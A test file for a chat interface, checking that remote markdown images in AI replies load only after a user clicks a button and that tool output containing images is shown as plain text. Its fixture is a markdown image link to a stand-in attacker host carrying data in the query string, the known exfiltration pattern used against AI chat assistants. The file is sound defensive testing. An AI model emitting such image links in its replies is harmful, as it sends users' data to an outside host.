import { describe, expect, it } from 'vitest'
import { mountSuspended } from '@nuxt/test-utils/runtime'
import ChatMessage from '~/components/chat/ChatMessage.vue'
import ChatToolCard from '~/components/chat/ChatToolCard.vue'
import { row, toolRow } from './chat-message-fixtures'

const LEAK = '![Quarterly chart](https://evil.example/leak.png?data=secret)'

describe('remote images in the chat', () => {
  it('show a "Load image from host" button in a reply, and load the image only when it is pressed', async () => {
    const message = row({ role: 'assistant', status: 'complete', content: `Here you go:\n\n${LEAK}` })
    const wrapper = await mountSuspended(ChatMessage, { props: { message } })
    expect(wrapper.find('img').exists()).toBe(false)
    const button = wrapper.get('button.chat-remote-image')
    expect(button.attributes('type')).toBe('button')
    expect(button.text()).toContain('Load image from evil.example')
    expect(button.text()).toContain('Quarterly chart')

    await button.trigger('click')
    const image = wrapper.get('img')
    expect(image.attributes('src')).toBe('https://evil.example/leak.png?data=secret')
    expect(image.attributes('alt')).toBe('Quarterly chart')
    expect(wrapper.find('button.chat-remote-image').exists()).toBe(false)
  })

  it('keep a loaded image loaded while more of its paragraph streams in, and no other image', async () => {
    const content = `${LEAK} and ![other](https://other.example/2.png) so far`
    const message = row({ role: 'assistant', status: 'streaming', content })
    const wrapper = await mountSuspended(ChatMessage, { props: { message, streaming: true } })
    await wrapper.findAll('button.chat-remote-image')[0]!.trigger('click')
    for (const token of [' and', ' more']) {
      await wrapper.setProps({ message: { ...message, content: `${content}${token}` } })
    }
    await wrapper.vm.$nextTick()
    expect(wrapper.findAll('img').map(image => image.attributes('src'))).toEqual(['https://evil.example/leak.png?data=secret'])
    expect(wrapper.findAll('button.chat-remote-image').map(button => button.attributes('data-remote-src'))).toEqual(['https://other.example/2.png'])
  })

  it('show tool output as text, so an image in it is never fetched', async () => {
    const wrapper = await mountSuspended(ChatToolCard, { props: { row: toolRow('search_chat_history', { toolResultFull: `Found: ${LEAK}` }) } })
    await wrapper.get('[data-testid="tool-details-toggle"]').trigger('click')
    expect(wrapper.get('[data-testid="tool-output"]').text()).toContain(LEAK)
    expect(wrapper.find('img').exists()).toBe(false)
    expect(wrapper.find('[data-testid="tool-summary"]').text()).toContain('![Quarterly chart]')
  })
})
